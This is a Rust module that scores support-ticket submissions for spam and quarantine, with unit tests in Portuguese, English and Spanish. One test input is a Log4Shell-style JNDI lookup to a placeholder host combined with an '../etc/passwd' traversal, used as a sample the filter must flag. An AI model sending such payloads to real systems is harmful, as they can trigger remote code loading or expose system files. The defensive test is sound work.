//! Judges a message: what is certain first, then what is counted, its text last.

use super::campaign::Similarity;
use super::score::{self, QUARANTINED_FROM};
use super::semantic;
use super::settings::Spam;
use super::submission::Submission;
use super::verdict::{QuarantineReason, Verdict};
use super::weights::Weights;
use crate::config::Limits;

/// Learned by `make train-spam`.
static WEIGHTS: Weights<'static> = Weights::new(include_bytes!("weights.bin"));
static SEMANTIC: &[u8; semantic::BYTES] = include_bytes!("semantic.bin");

/// What it counts, in the points of [`score`], that somebody else wrote much the same: not enough to hold a customer who has the same trouble.
const ALIKE_POINTS: i64 = 15;

/// So many times the limit are quarantined before messages are refused, so that a flood can't fill the disk.
const REFUSED_FROM_TIMES_LIMIT: i64 = 5;

/// What is known of a message besides its text. The counts are those of this hour and include it.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct Traffic {
    pub of_network: i64,
    pub of_email: i64,
    /// How much of its text came from others before.
    pub similarity: Similarity,
}

/// What a message means, in the points of [`score`]; none where no model has read it.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord)]
pub struct SemanticScore(pub(super) i64);

pub(super) fn judge(message: &Submission<'_>, meaning: SemanticScore, traffic: Traffic, limits: &Limits, settings: &Spam) -> Verdict {
    let network_limit = i64::from(limits.tickets_per_network_per_hour);
    let email_limit = i64::from(limits.tickets_per_email_per_hour);
    if traffic.of_network > network_limit * REFUSED_FROM_TIMES_LIMIT || traffic.of_email > email_limit * REFUSED_FROM_TIMES_LIMIT {
        return Verdict::Refuse;
    }
    let echo = if traffic.similarity == Similarity::Alike { ALIKE_POINTS } else { 0 };
    let signs = [
        (is_blocked(&message.email.to_ascii_lowercase(), &settings.blocked), QuarantineReason::Blocked),
        (message.trapped, QuarantineReason::Trap),
        (traffic.of_network > network_limit, QuarantineReason::Network),
        (traffic.of_email > email_limit, QuarantineReason::Email),
        (message.seconds.is_some_and(score::is_too_fast), QuarantineReason::TooFast),
        (traffic.similarity == Similarity::Copied, QuarantineReason::Campaign),
        (points(message) + meaning.0 + echo >= QUARANTINED_FROM, QuarantineReason::Content),
    ];
    signs.into_iter().find(|(holds, _)| *holds).map_or(Verdict::Accept, |(_, reason)| Verdict::Quarantine(reason))
}

/// The same of an address alone. Over a limit its author is told, since nothing that they wrote would be lost.
pub(super) fn judge_address(email: &str, of_network: i64, of_email: i64, limits: &Limits, settings: &Spam) -> Verdict {
    if of_network > limits.tickets_per_network_per_hour.into() || of_email > limits.tickets_per_email_per_hour.into() {
        return Verdict::Refuse;
    }
    if is_blocked(email, &settings.blocked) { Verdict::Quarantine(QuarantineReason::Blocked) } else { Verdict::Accept }
}

/// Whether a message is quarantined whatever it means.
pub(crate) fn is_certain(message: &Submission<'_>) -> bool {
    message.trapped || message.seconds.is_some_and(score::is_too_fast)
}

/// What the model's numbers say for and against a message. Of a message that is too long for the model, only against: else its beginning could
/// speak for an offer at its end.
pub(super) fn semantic_score(message: &Submission<'_>, numbers: &[f32]) -> SemanticScore {
    let points = score::points_of(semantic::sum(SEMANTIC, &semantic::waves(numbers)));
    let is_whole = message.message.chars().count() < semantic::TEXT_MAX_CHARS;
    SemanticScore(if is_whole { points } else { points.max(0) })
}

/// What a message itself says for and against it, in the points of [`score`].
pub(super) fn points(message: &Submission<'_>) -> i64 {
    score::score(WEIGHTS, message).sum()
}

/// An entry is an address, or `@` and a domain with everything below it. Capitals don't count.
fn is_blocked(email: &str, blocked: &[String]) -> bool {
    let domain = email.rsplit_once('@').map_or("", |(_, domain)| domain);
    blocked.iter().map(|entry| entry.trim().to_lowercase()).any(|entry| match entry.strip_prefix('@') {
        Some(of) => !of.is_empty() && (domain == of || domain.strip_suffix(of).is_some_and(|rest| rest.ends_with('.'))),
        None => entry == email,
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(in crate::spam) fn submission(message: &str) -> Submission<'_> {
        Submission {
            subject: "Cobrado duas vezes",
            name: "Maria",
            email: "Maria@Mail.Example",
            message,
            reason: "",
            has_code: false,
            trapped: false,
            seconds: None,
        }
    }

    #[test]
    fn over_a_limit_is_quarantined_and_far_over_it_is_refused() {
        let limits = Limits { tickets_per_network_per_hour: 20, tickets_per_email_per_hour: 6, ..Limits::default() };
        let judge = |trapped, of_network, of_email| {
            let traffic = Traffic { of_network, of_email, ..Traffic::default() };
            judge(&Submission { trapped, ..submission("Fui cobrada duas vezes.") }, SemanticScore::default(), traffic, &limits, &Spam::default())
        };
        assert_eq!(judge(false, 20, 6), Verdict::Accept);
        assert_eq!(judge(true, 1, 1), Verdict::Quarantine(QuarantineReason::Trap));
        assert_eq!(judge(false, 21, 1), Verdict::Quarantine(QuarantineReason::Network));
        assert_eq!(judge(false, 1, 7), Verdict::Quarantine(QuarantineReason::Email));
        assert_eq!(judge(false, 100, 30), Verdict::Quarantine(QuarantineReason::Network));
        assert_eq!(judge(false, 101, 1), Verdict::Refuse);
        assert_eq!(judge(true, 1, 31), Verdict::Refuse);
    }

    #[test]
    fn what_is_meant_counts_beside_the_words() {
        let judge = |message: &str, meant| {
            let of = Submission { subject: "Hello", ..submission(message) };
            judge(&of, SemanticScore(meant), Traffic::default(), &Limits::default(), &Spam::default())
        };
        assert_eq!(judge("Fui cobrada duas vezes.", 0), Verdict::Accept);
        assert_eq!(judge("Fui cobrada duas vezes.", 1000), Verdict::Quarantine(QuarantineReason::Content));
        let offer = "We can bring you more customers every month. Shall I send you our price list?";
        assert_eq!(judge(offer, 0), Verdict::Quarantine(QuarantineReason::Content));
        assert_eq!(judge(offer, -1000), Verdict::Accept);
    }

    #[test]
    fn much_in_common_with_another_tips_the_scales_and_a_copy_is_quarantined_whatever_it_says() {
        let text = submission("Fui cobrada duas vezes.");
        let judge = |points_without: i64, similarity| {
            let meant = SemanticScore(points_without - points(&text));
            judge(&text, meant, Traffic { similarity, ..Traffic::default() }, &Limits::default(), &Spam::default())
        };
        assert_eq!(judge(QUARANTINED_FROM - ALIKE_POINTS, Similarity::Alike), Verdict::Quarantine(QuarantineReason::Content));
        assert_eq!(judge(QUARANTINED_FROM - ALIKE_POINTS - 1, Similarity::Alike), Verdict::Accept);
        assert_eq!(judge(-1000, Similarity::Copied), Verdict::Quarantine(QuarantineReason::Campaign));
    }

    #[test]
    fn the_time_holds_a_message_only_when_a_script_told_it() {
        let judge = |seconds| {
            let of = Submission { seconds, ..submission("Fui cobrada duas vezes.") };
            judge(&of, SemanticScore::default(), Traffic::default(), &Limits::default(), &Spam::default())
        };
        assert_eq!(judge(Some(1)), Verdict::Quarantine(QuarantineReason::TooFast));
        assert_eq!(judge(None), Verdict::Accept);
        assert_eq!(judge(Some(9)), Verdict::Accept);
    }

    fn points_of(subject: &str, message: &str) -> i64 {
        points(&Submission { subject, ..submission(message) })
    }

    #[test]
    fn what_creators_sell_and_customers_complain_about_is_let_through() {
        let kept = [
            ("Reembolso do robô", "Comprei um robô de forex que promete 10% ao dia e não funciona. Quero o reembolso."),
            ("SEO course", "The coupon for the SEO course was not applied, I paid the full price."),
            ("Mis enlaces", "Estos dan 404: https://a.example/1 https://a.example/2 https://a.example/3 https://a.example/4"),
            ("É golpe?", "Recebi no WhatsApp que ganhei R$ 1.000, o link é http://premio.example/x . É de vocês?"),
            ("Dúvida", "como falo com o dono do curso?"),
        ];
        for (subject, message) in kept {
            assert!(points_of(subject, message) < QUARANTINED_FROM, "{subject}");
        }
    }

    #[test]
    fn offers_to_the_company_and_disguises_are_quarantined() {
        let quarantined = [
            "[url=http://a.example]casino[/url]",
            "Сhеар раgеs fоr уоu",
            "mNbVcXyLkJhGfDsA",
            "${jndi:ldap://a.example/x} ../etc/passwd",
            "v i s i t   u s   r a n k f a s t [dot] example",
            "We can bring you more customers every month. Shall I send you our price list?",
            "Somos uma agência de marketing e fazemos tráfego pago para empresas. Posso enviar uma proposta sem compromisso?",
            "Ofrecemos posicionamiento en Google para su empresa. ¿Le puedo enviar una cotización sin compromiso?",
        ];
        for message in quarantined {
            assert!(points_of("Hello", message) >= QUARANTINED_FROM, "{message}");
        }
    }

    #[test]
    fn an_entry_blocks_an_address_or_a_domain_and_nothing_else() {
        let blocked = |entry: &str| is_blocked("maria@mail.example", &[entry.to_owned()]);
        assert!(blocked("Maria@mail.example") && blocked("@mail.example") && blocked("@example"));
        assert!(!blocked("@ail.example") && !blocked("@") && !blocked("") && !blocked("mail.example") && !blocked("ana@mail.example"));
    }
}
